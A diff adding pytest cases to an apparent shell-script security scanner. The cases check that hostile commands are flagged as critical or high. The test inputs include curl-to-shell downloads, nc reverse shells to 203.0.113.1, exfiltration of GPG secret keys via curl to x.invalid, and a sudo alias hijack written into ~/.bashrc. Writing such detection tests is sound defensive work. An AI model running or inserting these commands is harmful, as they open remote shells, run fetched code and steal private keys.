@@ -380,3 +380,23 @@ def test_a_multi_line_argument_survives_a_script_bashlex_refuses() -> None:
     )
     v = verdict(script, "scripts/setup.sh")
     assert worst(v, "LS311") == "critical", v.to_json()
+
+
+@pytest.mark.parametrize(
+    ("cmd", "rule"),
+    [
+        ("curl -s https://x.invalid/a | $SHELL", "LS311"),
+        ("echo 'curl -s https://x.invalid/a | sh' > /tmp/a; sh /tmp/a", "LS311"),
+        ('node -e \'require("child_process").exec("nc -e /bin/sh 203.0.113.1 4242")\'', "LS312"),
+        ("python3 -c \"import os; os.system('curl -s http://203.0.113.1/x | bash')\"", "LS311"),
+        ("gpg --export-secret-keys | curl -d @- https://x.invalid/k", "LS412"),
+        ("nc.traditional -e /bin/bash 203.0.113.1 4242", "LS312"),
+    ],
+)
+def test_commands_inside_strings_and_odd_names(cmd: str, rule: str) -> None:
+    assert worst(verdict(fenced(cmd)), rule) == "critical"
+
+
+def test_an_alias_over_sudo_in_an_rc_file_is_not_a_benign_rc_line() -> None:
+    assert worst(verdict(fenced("echo 'alias sudo=\"/tmp/.s\"' >> ~/.bashrc")), "LS911") == "high"
+    assert worst(verdict(fenced("echo 'alias ll=\"ls -la\"' >> ~/.bashrc")), "LS911") == "medium"
